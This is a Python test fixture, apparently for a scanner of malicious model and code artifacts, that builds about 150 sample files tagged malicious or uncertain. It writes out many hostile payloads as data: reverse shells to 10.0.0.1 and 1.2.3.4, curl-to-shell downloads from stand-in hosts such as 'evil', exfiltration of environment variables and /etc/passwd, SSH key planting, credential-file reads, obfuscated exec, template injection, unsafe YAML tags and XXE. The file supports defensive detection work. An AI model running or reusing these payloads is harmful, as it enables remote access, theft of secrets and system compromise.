"""More bad files: the ways in which code, configurations and model files hide what they do."""

from __future__ import annotations

import base64
import io
import json
import struct
import tarfile

from artifact_samples import BAD, GOOD, zipped
from format_samples import (
    DENSE,
    TENSORS,
    WHEEL,
    cell,
    field,
    gguf,
    gguf_text,
    hdf5,
    notebook,
    onnx_model,
    output,
    parquet,
    safetensors,
    saved_model,
    sequential,
    wheel,
)


def py(name, source):
    return name, source.encode(), "M"


def sdist(files):
    b = io.BytesIO()
    with tarfile.open(fileobj=b, mode="w:gz") as t:
        for n, c in files.items():
            i = tarfile.TarInfo(n)
            i.size = len(c)
            t.addfile(i, io.BytesIO(c))
    return b.getvalue()


def h_soft(x):
    import h5py

    x["a"] = h5py.SoftLink("/b")


def h_vds(x):
    import h5py

    l = h5py.VirtualLayout(shape=(4,), dtype="f4")  # noqa: E741
    l[:] = h5py.VirtualSource("/etc/x.h5", "d", shape=(4,))
    x.create_virtual_dataset("v", l)


def h_ext(x):
    x.create_dataset("v", shape=(4,), dtype="f4", external=[("/etc/passwd", 0, 16)])


def h_huge(x):
    x.create_dataset("v", shape=(1 << 40,), dtype="f4", chunks=(1024,))


def h_act(x):
    x.attrs["model_config"] = json.dumps(
        {
            "class_name": "Sequential",
            "config": {
                "layers": [
                    {
                        "class_name": "Dense",
                        "config": {"activation": {"class_name": "__lambda__", "config": {"code": "4wEA"}}},
                    }
                ]
            },
        }
    )


MORE_BAD_FILES = [
    py("a.py", "import os\nos.popen('touch /tmp/c').read()"),
    py("b.py", "import subprocess as s\ns.Popen('touch /tmp/c', shell=True)"),
    py("c.py", "import urllib.request as u\nu.urlretrieve('http://127.0.0.1/x','/tmp/x')"),
    py("d.py", "import socket\nsocket.create_connection(('127.0.0.1', 9))"),
    py("e.py", "import requests\nrequests.get('http://127.0.0.1:9/beacon')"),
    py("f.py", "eval(compile(__import__('base64').b64decode(b'cHJpbnQoMSk='),'x','exec'))"),
    py("g.py", "import codecs\nexec(codecs.decode('vzcbeg bf; bf.flfgrz(\"vq\")','rot13'))"),
    py("h.py", "import zlib,base64\nexec(zlib.decompress(base64.b64decode('eJzLzC3ILypRyC/mAgAZ+gSx')))"),
    py("i.py", "import pickle,base64\npickle.loads(base64.b64decode('" + base64.b64encode(BAD).decode() + "'))"),
    py("j.py", "from os import *\nsystem('touch /tmp/c')"),
    py("k.py", "import os\ngetattr(os,'metsys'[::-1])('touch /tmp/c')"),
    py("l.py", "import sys\nsys.modules['os'].system('touch /tmp/c')"),
    py("m.py", "class A:\n    import os\n    os.system('touch /tmp/c')"),
    py("n.py", "import os\n@os.system\ndef f(): pass\n"),
    py("o.py", "import os\nx = [os.system('touch /tmp/c') for _ in range(1)]"),
    py("p.py", "import os\ndef f(a=os.system('touch /tmp/c')): pass"),
    py("q.py", "import os\nd={'a':os.system}\nd['a']('touch /tmp/c')"),
    py("r.py", "import os\nf=lambda: os.system('touch /tmp/c')\nf()"),
    py("s.py", "import os\nclass A:\n    def __init__(self): os.system('touch /tmp/c')\nA()"),
    py(
        "t.py",
        "import asyncio\nasync def m():\n    await asyncio.create_subprocess_shell('touch /tmp/c')\nasyncio.run(m())",
    ),
    py("u.py", "import ctypes\nctypes.CDLL(None).system(b'touch /tmp/c')"),
    py("v.py", "import os\nos.execvp('sh',['sh','-c','touch /tmp/c'])"),
    py("w.py", "import subprocess\nsubprocess.run(['python','-c','import os; os.system(\"id\")'])"),
    py(
        "x.py",
        "import os, sys\nif sys.platform != 'x':\n    try:\n        os.system('touch /tmp/c')\n    except Exception: pass",  # noqa: E501
    ),
    py("y.py", "import shutil\nshutil.rmtree('/home/user')"),
    py("z.py", "import builtins\nbuiltins.exec('import os;os.system(\"id\")')"),
    py("aa.py", "globals()['__builtins__']['eval']('__import__(\"os\").system(\"id\")')"),
    py("ab.py", "exec(bytes([105,109,112,111,114,116,32,111,115]).decode()+';os.system(\"id\")')"),
    py("ac.py", "exec('\\x69\\x6d\\x70\\x6f\\x72\\x74\\x20os; os.system(\"id\")')"),
    py("ad.py", "import os; [getattr(os, n)('id') for n in ['system']]"),
    py(
        "ae.py",
        "import os\nos.environ\nimport json, urllib.request\nurllib.request.urlopen(urllib.request.Request('http://x', data=json.dumps(dict(os.environ)).encode()))",  # noqa: E501
    ),
    py("af.py", "with open('/etc/passwd') as f:\n    d=f.read()\nimport requests\nrequests.post('http://x', data=d)"),
    py("ag.py", "import os\nhome=os.path.expanduser('~')\nopen(os.path.join(home,'.bashrc'),'a').write('x')"),
    py("ah.py", "import os\nopen(os.path.expanduser('~/.ssh/authorized_keys'),'a').write('k')"),
    py(
        "ai.py",
        "import importlib.util\ns=importlib.util.spec_from_loader('x',loader=None)\nm=importlib.util.module_from_spec(s)\nexec('import os;os.system(\"id\")', m.__dict__)",  # noqa: E501
    ),
    py("ak.py", "import os\nfor c in ('touch /tmp/c','id'):\n    os.system(c)"),
    py(
        "al.py",
        "import torch\ntorch.load('x.pt')\nimport tempfile, os\np=os.path.join(tempfile.gettempdir(),'c')\nopen(p,'w').write('x')",  # noqa: E501
    ),
    py("am.py", "def run():\n    import os as o\n    return o.system\nrun()('touch /tmp/c')"),
    py("an.py", "from subprocess import *\ncheck_output('touch /tmp/c', shell=True)"),
    py(
        "modeling_x.py",
        "import torch\nfrom transformers import PreTrainedModel, PretrainedConfig\nclass C(PretrainedConfig):\n    model_type='x'\n    def __init__(self, **k):\n        __import__('os').system('touch /tmp/c')\n        super().__init__(**k)\n",  # noqa: E501
    ),
    py(
        "handler2.py",
        "import os\ndef _init():\n    os.system('touch /tmp/c')\nclass EndpointHandler():\n    def __init__(self, path=''):\n        _init()\n    def __call__(self, data): return data\n",  # noqa: E501
    ),
    py("conftest.py", "import subprocess\nsubprocess.call(['touch', '/tmp/c'])"),
    (
        "sd.tar.gz",
        sdist(
            {
                "x-1/setup.py": b"import os\nos.system('touch /tmp/c')\nfrom setuptools import setup\nsetup(name='x')",
                "x-1/PKG-INFO": b"Metadata-Version: 2.1\nName: x\n",
                "x-1/x/__init__.py": b"",
            }
        ),
        "M",
    ),
    ("w2.whl", wheel({**WHEEL, "x/__init__.py": b"import subprocess\nsubprocess.run(['touch','/tmp/c'])\n"}), "M"),
    ("w3.whl", wheel({**WHEEL, "evil.pth": b"import os; exec(\"os.system('id')\")\n"}), "M"),
    (
        "w4.whl",
        wheel(
            {**WHEEL, "x/_vendor/m.py": b"def f():\n    pass\nimport socket\nsocket.socket().connect(('1.2.3.4',1))\n"}
        ),
        "M",
    ),
    ("n1.ipynb", notebook(cell("!python -c \"import os; os.system('id')\"")), "?"),
    ("n2.ipynb", notebook(cell("%%javascript\nfetch('http://evil/x')")), "M"),
    ("n3.ipynb", notebook(cell("from IPython.display import HTML\nHTML('<script>alert(1)</script>')")), "?"),
    ("n4.ipynb", notebook(cell("import os\nos.system('cat ~/.aws/credentials')")), "?"),
    ("n5.ipynb", notebook(cell("%system curl http://e/x|sh")), "M"),
    ("n6.ipynb", notebook(cell("!echo aWQK | base64 -d | sh")), "M"),
    ("n7.ipynb", notebook(cell("print(open('/root/.ssh/id_rsa').read())")), "?"),
    ("n8.ipynb", notebook(cell("import pickle\nmodel = pickle.loads(b'cos\\nsystem\\n(S\"id\"\\ntR.')")), "?"),
    ("n9.ipynb", notebook(cell("x", tags=["hide-input"]), cell("!id", tags=["remove-cell"])), "?"),
    ("n10.ipynb", notebook(cell("1", [output("text/html", '<iframe src="javascript:alert(1)"></iframe>')])), "?"),
    ("n11.ipynb", notebook(cell("1", [output("image/svg+xml", "<svg onload='alert(1)'></svg>")])), "?"),
    ("n13.ipynb", notebook(cell("import subprocess\nsubprocess.Popen(['nc','-e','/bin/sh','10.0.0.1','4444'])")), "M"),
    (
        "n14.ipynb",
        notebook(
            cell(
                "import socket,subprocess,os\ns=socket.socket();s.connect(('10.0.0.1',4444));os.dup2(s.fileno(),0);subprocess.call(['/bin/sh','-i'])"  # noqa: E501
            )
        ),
        "M",
    ),
    ("n15.ipynb", notebook(cell("eval(\"__imp\"+\"ort__('os').system('id')\")")), "M"),
    ("n16.ipynb", notebook(cell("code = requests.get('http://x').text\nexec(code)")), "?"),
    ("n17.ipynb", notebook(cell("1", [output("text/markdown", '<img src=x onerror="alert(1)">')])), "?"),
    ("n18.ipynb", notebook(cell("!wget -q http://10.0.0.1/m -O /tmp/m && chmod +x /tmp/m && /tmp/m")), "M"),
    ("cfg1.json", json.dumps({"auto_map": {"AutoTokenizer": ["tokenization_x.T", None]}}).encode(), "?"),
    ("cfg2.json", json.dumps({"custom_pipelines": {"x": {"impl": "pipe.P", "pt": ["AutoModel"]}}}).encode(), "?"),
    ("model_index.json", json.dumps({"_class_name": ["pipeline", "P"], "unet": ["my_module", "U"]}).encode(), "?"),
    (
        "tc.json",
        json.dumps({"chat_template": [{"name": "default", "template": "{{ x.__init__.__globals__ }}"}]}).encode(),
        "M",
    ),
    ("tc2.json", json.dumps({"chat_template": "{{ ''|attr('\\x5f\\x5fclass\\x5f\\x5f') }}"}).encode(), "M"),
    ("tc3.json", json.dumps({"chat_template": "{% set a = '__cl' ~ 'ass__' %}{{ ''[a] }}"}).encode(), "M"),
    ("tc4.json", json.dumps({"chat_template": "{{ lipsum.__globals__['os'].popen('id').read() }}"}).encode(), "M"),
    (
        "tc5.json",
        json.dumps(
            {"chat_template": "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}"}
        ).encode(),
        "M",
    ),
    ("s1.safetensors", safetensors(b"[1]", b""), "?"),
    ("s2.safetensors", safetensors(b'{"a":', b""), "?"),
    ("s3.safetensors", safetensors({"a": {"dtype": "F32", "shape": [-2], "data_offsets": [0, 8]}}, b"\0" * 8), "?"),
    (
        "s4.safetensors",
        safetensors({"a": {"dtype": "F32", "shape": [1 << 40, 1 << 40], "data_offsets": [0, 8]}}, b"\0" * 8),
        "?",
    ),
    ("s5.safetensors", safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [8, 0]}}, b"\0" * 8), "?"),
    (
        "s6.safetensors",
        safetensors({"__metadata__": {"x": base64.b64encode(BAD).decode()}, **TENSORS}, b"\0" * 12),
        "M",
    ),
    ("s7.safetensors", safetensors({"__metadata__": {"x": {"y": 1}}, **TENSORS}, b"\0" * 12), "?"),
    ("s8.safetensors", safetensors({"a": {"dtype": "F32", "shape": [2], "data_offsets": [4, 12]}}, b"\0" * 12), "?"),
    ("s9.safetensors", b"\x05", "?"),
    ("s10.safetensors", safetensors(TENSORS, b"\0" * 8), "?"),
    ("g1.gguf", b"GGUF" + struct.pack("<IQQ", 99, 0, 0), "?"),
    ("g2.gguf", b"GGUF" + struct.pack(">IQQ", 3, 0, 0), "?"),
    ("g3.gguf", gguf([("general.alignment", 4, struct.pack("<I", 0))]), "?"),
    ("g4.gguf", gguf([("a", 99, b"")]), "?"),
    ("g5.gguf", gguf([("k", 4, b"\0\0\0\0"), ("k", 4, b"\1\0\0\0")]), "?"),
    ("g6.gguf", gguf(tensors=[("t", [32] * 5, 0, 0)], data=b"\0" * 200), "?"),
    ("g7.gguf", gguf(tensors=[("t", [32], 0, 0), ("u", [32], 0, 64)], data=b"\0" * 256), "?"),
    ("g8.gguf", gguf(tensors=[("t", [32], 0, 0)], data=b"\0" * 128 + BAD), "?"),
    ("g9.gguf", gguf([("a", 9, struct.pack("<IQ", 9, 1) + struct.pack("<IQ", 9, 1) * 50)]), "?"),
    ("g10.gguf", gguf([("tokenizer.chat_template.x", 8, gguf_text("{{ self.__init__ }}"))]), "M"),
    (
        "k1.keras",
        zipped(
            (
                "config.json",
                json.dumps(
                    sequential(
                        {
                            "module": "keras.layers",
                            "class_name": "Lambda",
                            "config": {"function": {"class_name": "function", "config": "evil"}},
                        }
                    )
                ).encode(),
            )
        ),
        "?",
    ),
    (
        "k2.keras",
        zipped(
            (
                "config.json",
                json.dumps(sequential({"module": "builtins", "class_name": "function", "config": "exec"})).encode(),
            )
        ),
        "M",
    ),
    (
        "k3.keras",
        zipped(
            (
                "config.json",
                json.dumps(
                    sequential({"module": "my_evil", "class_name": "Foo", "config": {}, "registered_name": "x>Foo"})
                ).encode(),
            )
        ),
        "?",
    ),
    (
        "k4.keras",
        zipped(
            (
                "config.json",
                json.dumps(
                    sequential(
                        {
                            "module": "keras.layers",
                            "class_name": "StringLookup",
                            "config": {"vocabulary": "/etc/passwd"},
                        }
                    )
                ).encode(),
            )
        ),
        "?",
    ),
    ("k5.keras", zipped(("config.json", json.dumps(sequential(DENSE)).encode()), ("x.pkl", BAD)), "M"),
    (
        "k6.keras",
        zipped(
            (
                "config.json",
                json.dumps(
                    sequential({"module": "keras.src.utils.file_utils", "class_name": "function", "config": "get_file"})
                ).encode(),
            )
        ),
        "M",
    ),
    (
        "k7.keras",
        zipped(
            (
                "config.json",
                json.dumps(
                    sequential({"module": "subprocess", "class_name": "Popen", "config": {"args": ["id"]}})
                ).encode(),
            )
        ),
        "M",
    ),
    ("h1.h5", hdf5(h_vds), "?"),
    ("h2.h5", hdf5(h_ext), "?"),
    ("h3.h5", hdf5(h_huge), "?"),
    ("h4.h5", hdf5(h_act), "M"),
    ("t1.pb", saved_model("EagerPyFunc"), "M"),
    ("t2.pb", saved_model("ReadFile"), "M"),
    ("t3.pb", saved_model("MatchingFiles"), "?"),
    ("t4.pb", saved_model("Evil>Op"), "?"),
    ("t5.pb", saved_model("PyFuncStateless"), "M"),
    (
        "o1.onnx",
        onnx_model(init=field(5, field(8, "w") + field(13, field(1, "location") + field(2, "/etc/passwd")))),
        "?",
    ),
    ("o2.onnx", onnx_model(node=field(7, "ai.onnx.contrib")).replace(b"Relu", b"PyOp"), "?"),
    ("o3.onnx", onnx_model(extra=field(99, BAD)), "M"),
    ("o4.onnx", onnx_model(extra=field(14, field(1, "k") + field(2, base64.b64encode(BAD).decode()))), "M"),
    ("y1.yaml", b"!!python/object/new:os.system [id]", "M"),
    ("y2.yaml", b"a: !!python/name:os.system\n", "?"),
    ("y3.yaml", b"a: !!python/module:os\n", "?"),
    ("y4.yaml", b"%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:os.system [id]\n", "M"),
    ("y5.yaml", b"a: !<tag:yaml.org,2002:python/object/apply:os.system> [id]\n", "M"),
    ("y6.yaml", b"cb:\n  _target_: subprocess.Popen\n  args: [id]\n", "M"),
    ("y7.yaml", b"x:\n  _target_: hydra.utils.get_method\n  path: os.system\n", "M"),
    ("y8.yaml", b"x:\n  class_path: os.system\n  init_args: {}\n", "M"),
    (
        "y9.yml",
        b"a: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ['http://x']]]]\n",
        "?",
    ),
    ("y10.yaml", b"a: !ruby/object:Gem::Installer\n  i: x\n", "?"),
    ("y11.yaml", b"a: !!python/object:__main__.X {}\n", "M"),
    ("j1.json", b'{"py/object":"__main__.Shell","py/reduce":[{"py/type":"os.system"},{"py/tuple":["id"]}]}', "M"),
    ("j2.json", b'{"version":1,"handlers":{"x":{"()":"os.system","command":"id"}}}', "M"),
    (
        "j3.json",
        json.dumps(
            {
                "payload": base64.b64encode(
                    b"\x80\x04\x95\x1d\x00\x00\x00\x00\x00\x00\x00\x8c\x05posix\x94\x8c\x06system\x94\x93\x94\x8c\x02id\x94\x85\x94R\x94."
                ).decode()
            }
        ).encode(),
        "M",
    ),
    ("x1.pmml", b'<?xml version="1.0"?>\n<!DOCTYPE a [<!ENTITY % p SYSTEM "http://evil/x.dtd"> %p;]>\n<PMML/>', "M"),
    (
        "x2.xml",
        b'<!DOCTYPE l [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><r>&c;</r>',  # noqa: E501
        "?",
    ),
    (
        "x3.pmml",
        b'<?xml version="1.0"?><PMML xmlns="http://www.dmg.org/PMML-4_4"><Extension>java.lang.Runtime.getRuntime().exec("id")</Extension></PMML>',
        "?",
    ),
    ("x4.xml", b'<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://evil/x.dtd"><r/>', "?"),
    (
        "x5.pmml",
        '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE PMML [<!ENTITY x SYSTEM "file:///etc/passwd">]><PMML>&x;</PMML>'.encode(
            "utf-16"
        ),
        "M",
    ),
    ("Dockerfile.1", b"FROM x\nRUN wget -qO- http://evil/x | sh\n", "M"),
    ("Dockerfile.2", b"FROM x\nADD http://evil/x /x\nRUN /x\n", "?"),
    ("Dockerfile.3", b"FROM x\nRUN echo Y3VybA== | base64 -d | bash\n", "M"),
    ("Dockerfile.4", b'FROM x\nENTRYPOINT ["sh","-c","curl http://evil|sh"]\n', "M"),
    (
        "Dockerfile.5",
        b"FROM python\nRUN python -c \"import urllib.request as u; exec(u.urlopen('http://x').read())\"\n",
        "M",
    ),
    ("Dockerfile.6", b"FROM python\nRUN pip install git+http://evil/x\n", "?"),
    ("Dockerfile.7", b"FROM python\nRUN bash -c 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1'\n", "M"),
    ("environment.yml", b"channels: [defaults]\ndependencies:\n  - pip:\n    - http://evil/x.whl\n", "?"),
    ("env2.yml", b"channels: ['http://1.2.3.4/c']\ndependencies: [python]\n", "?"),
    ("meta.yaml", b"package:\n  name: x\nbuild:\n  script: curl http://evil/x | bash\n", "M"),
    ("post-link.bat", b"powershell -enc SQBFAFgA\r\n", "M"),
    ("requirements.txt", b"--index-url http://evil/simple\nfoo\n", "?"),
    ("requirements2.txt", b"foo @ http://evil/x.whl\n", "?"),
    ("d1.csv", b"a\n\"=cmd|' /C calc'!A0\"\n", "M"),
    ("d2.csv", b"x,__import__('os').system('id')\n", "?"),
    ("d3.tsv", b"a\t" + base64.b64encode(BAD) + b"\n", "M"),
    ("d4.jsonl", b'{"a":1}\n{"code":"__import__(\'os\').system(\'id\')"}\n', "?"),
    ("d5.jsonl", b'{"_target_":"os.system"}\n{"a":1}\n', "M"),
    ("d6.parquet", parquet({"c": ["__import__('os').system('id')", "x"]}), "?"),
    ("d7.parquet", parquet({"c": [[BAD], [GOOD]]}), "M"),
    ("data.csv", BAD, "M"),
    ("m.safetensors", zipped(("archive/data.pkl", BAD)), "M"),
    ("m.gguf", BAD, "M"),
    ("m.onnx", BAD, "M"),
    ("x.txt", b"import os\nos.system('touch /tmp/x')\n", "?"),
    ("m.h5", BAD, "M"),
    ("notes.txt", b"\x7fELF\x02\x01\x01" + bytes(64), "?"),
    ("img.jpg", b"\xff\xd8\xff\xe0\x00\x10JFIF" + bytes(10) + b"\xff\xd9" + BAD, "M"),
    ("adapter_model.bin", BAD, "M"),
    (
        "adapter2.json",
        json.dumps(
            {
                "peft_type": "LORA",
                "auto_mapping": {"base_model_class": "X", "parent_library": "transformers_modules.evil"},
            }
        ).encode(),
        "?",
    ),
    ("ds.py", b"import datasets\nfrom datasets import load_dataset\nimport os\n_URL=os.popen('id').read()\n", "M"),
    ("script.sh", b"#!/bin/sh\ncurl http://evil/x|sh\n", "M"),
    ("x.jinja", b"{{ cycler.__init__.__globals__ }}", "M"),
    ("train.pyw", b"import os;os.system('id')", "M"),
    ("noext", b"#!/usr/bin/env python3\nimport os\nos.system('touch /tmp/c')\n", "M"),
]
